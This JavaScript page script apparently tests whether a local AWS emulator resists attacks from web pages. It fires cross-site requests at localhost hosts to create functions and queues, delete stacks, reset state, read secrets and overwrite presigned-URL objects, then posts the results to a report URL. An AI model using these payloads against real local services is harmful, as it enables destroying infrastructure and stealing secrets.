// What a page tries against the control plane of an AWS on the machine that shows it. `config` is set before this runs.
const {port, url, api, presigned, upload, report} = config;
const hosts = {
  plain: `http://127.0.0.1:${port}`,
  localhost: `http://localhost:${port}`,
  shortId: `http://x.lambda-url.localhost:${port}`,
  region: `http://x.lambda-url.us-east-1.localhost:${port}`,
  almostId: `http://${url.slice(1)}.lambda-url.us-east-1.localhost:${port}`,
  apiName: `http://app.execute-api.localhost:${port}`,
  subdomain: `http://bucket.localhost:${port}`,
};
const appHosts = {
  urlHost: `http://${url}.lambda-url.us-east-1.localhost:${port}`,
  apiHost: `http://${api}.execute-api.localhost:${port}`,
};
const results = {};
const form = "application/x-www-form-urlencoded";
const createQueue = name => new URLSearchParams({Action: "CreateQueue", QueueName: name, Version: "2012-11-05"});
const deleteStack = "?Action=DeleteStack&StackName=victim&Version=2010-05-15";
const code = JSON.stringify({FunctionName: "attack", Runtime: "python3.12", Role: "arn:aws:iam::000000000000:role/r",
                             Handler: "a.b", Code: {ZipFile: "UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA=="}});

function within(promise) {
  return Promise.race([promise, new Promise(done => setTimeout(() => done("silence"), 8000))]);
}
function attempt(name, action) {
  return within(Promise.resolve().then(action).catch(error => `failed: ${error.name}`)).then(outcome => results[name] = outcome);
}
async function told(answer) {
  if (answer.type === "opaque") return "opaque";
  return `${answer.status} ${(await answer.text()).slice(0, 200)}`;
}
function element(kind, properties) {
  return new Promise(done => {
    const node = Object.assign(document.createElement(kind), properties);
    node.onload = () => done("loaded");
    node.onerror = () => done("error");
    document.body.append(node);
  });
}
function submitted(action, fields) {
  return new Promise(done => {
    const frame = document.createElement("iframe");
    frame.name = `frame${Math.random()}`;
    document.body.append(frame);
    const node = Object.assign(document.createElement("form"), {action, method: "POST", target: frame.name});
    for (const [name, value] of Object.entries(fields)) {
      node.append(Object.assign(document.createElement("input"), {name, value}));
    }
    document.body.append(node);
    frame.onload = () => done("submitted");
    node.submit();
  });
}
function socket(address, protocols) {
  return new Promise(done => {
    const opened = new WebSocket(address, protocols ?? []);
    opened.onopen = () => done("open");
    opened.onerror = () => done("error");
  });
}

async function attack() {
  const attempts = [];
  const add = (name, action) => attempts.push(attempt(name, action));
  for (const [name, host] of Object.entries(hosts)) {
    add(`${name}: cors json create queue`, () => fetch(`${host}/`, {method: "POST", body: '{"QueueName": "cors"}',
      headers: {"X-Amz-Target": "AmazonSQS.CreateQueue", "Content-Type": "application/x-amz-json-1.0"}}).then(told));
    add(`${name}: no-cors form create queue`, () => fetch(`${host}/`, {method: "POST", mode: "no-cors",
      headers: {"Content-Type": form}, body: createQueue("form")}).then(told));
    add(`${name}: no-cors create function`, () => fetch(`${host}/2015-03-31/functions`,
      {method: "POST", mode: "no-cors", body: code}).then(told));
    add(`${name}: no-cors invoke`, () => fetch(`${host}/2015-03-31/functions/app/invocations`,
      {method: "POST", mode: "no-cors", body: "{}"}).then(told));
    add(`${name}: cors read object`, () => fetch(`${host}/secrets/secret`).then(told));
    add(`${name}: img delete stack`, () => element("img", {src: `${host}/${deleteStack}`}));
    add(`${name}: script delete stack`, () => element("script", {src: `${host}/${deleteStack}`}));
    add(`${name}: form delete stack`, () => submitted(`${host}/`, {Action: "DeleteStack", StackName: "victim", Version: "2010-05-15"}));
    add(`${name}: beacon create queue`, () => String(navigator.sendBeacon(`${host}/`, createQueue("beacon"))));
    for (const path of ["/_remit/reset", "/_ministack/reset", "/_remit/save"]) {
      add(`${name}: no-cors ${path}`, () => fetch(`${host}${path}`, {method: "POST", mode: "no-cors"}).then(told));
    }
  }
  for (const [name, host] of Object.entries(appHosts)) {
    add(`${name}: no-cors reset`, () => fetch(`${host}/_ministack/reset`, {method: "POST", mode: "no-cors"}).then(told));
    add(`${name}: form create queue`, () => fetch(`${host}/`, {method: "POST", mode: "no-cors",
      headers: {"Content-Type": form}, body: createQueue("apphost")}).then(told));
  }
  for (const path of ["/_aws/lambda-url/app/", `/_aws/lambda-url/${url.slice(1)}/`, "/_aws/execute-api/app/", "/_aws/lambda-url/"]) {
    add(`${path}: form create queue`, () => fetch(`${hosts.plain}${path}`, {method: "POST", mode: "no-cors",
      headers: {"Content-Type": form}, body: createQueue("path")}).then(told));
    add(`${path}: img delete stack`, () => element("img", {src: `${hosts.plain}${path}${deleteStack}`}));
  }
  add("iframe delete stack", () => element("iframe", {src: `${hosts.plain}/${deleteStack}`}));
  add("prefetch delete stack", () => element("link", {rel: "prefetch", href: `${hosts.plain}/${deleteStack}`}));
  add("import delete stack", () => import(`${hosts.plain}/${deleteStack}`).then(() => "imported"));
  add("event source", () => new Promise(done => {
    const source = new EventSource(`${hosts.plain}/secrets/secret`);
    source.onopen = () => done("open");
    source.onerror = () => { source.close(); done("error"); };
  }));
  add("health", () => fetch(`${hosts.plain}/_remit/health`).then(told));
  add("token of a custom resource", () => fetch(
    `${hosts.plain}/_ministack/cfn-response/01234567-89ab-cdef-0123-456789abcdef`, {method: "PUT", body: "{}"}).then(told));
  add("leaked url: cors read", () => fetch(presigned).then(told));
  add("leaked url: no-cors read", () => fetch(presigned, {mode: "no-cors"}).then(told));
  add("leaked url: script", () => element("script", {src: presigned}));
  add("leaked url: put", () => fetch(upload, {method: "PUT", body: "overwritten"}).then(told));
  add("leaked url: form", () => submitted(presigned, {any: "thing"}));
  add("socket: control plane", () => socket(`ws://127.0.0.1:${port}/`));
  add("socket: things", () => socket(`ws://iot.us-east-1.localhost:${port}/mqtt`, ["mqtt"]));
  add("socket: events", () => socket(`ws://x.appsync-realtime-api.localhost:${port}/`));
  add("socket: connections", () => socket(`ws://127.0.0.1:${port}/_aws/execute-api/${api}/prod/@connections/c`));
  // To know that requests arrive at all: the app's own routes answer pages.
  add("control: function url", () => fetch(`${hosts.plain}/_aws/lambda-url/${url}/hello`).then(told));
  add("control: function url by host", () => fetch(`${appHosts.urlHost}/hello`).then(told));
  await Promise.all(attempts);
  await fetch(report, {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
}
attack();
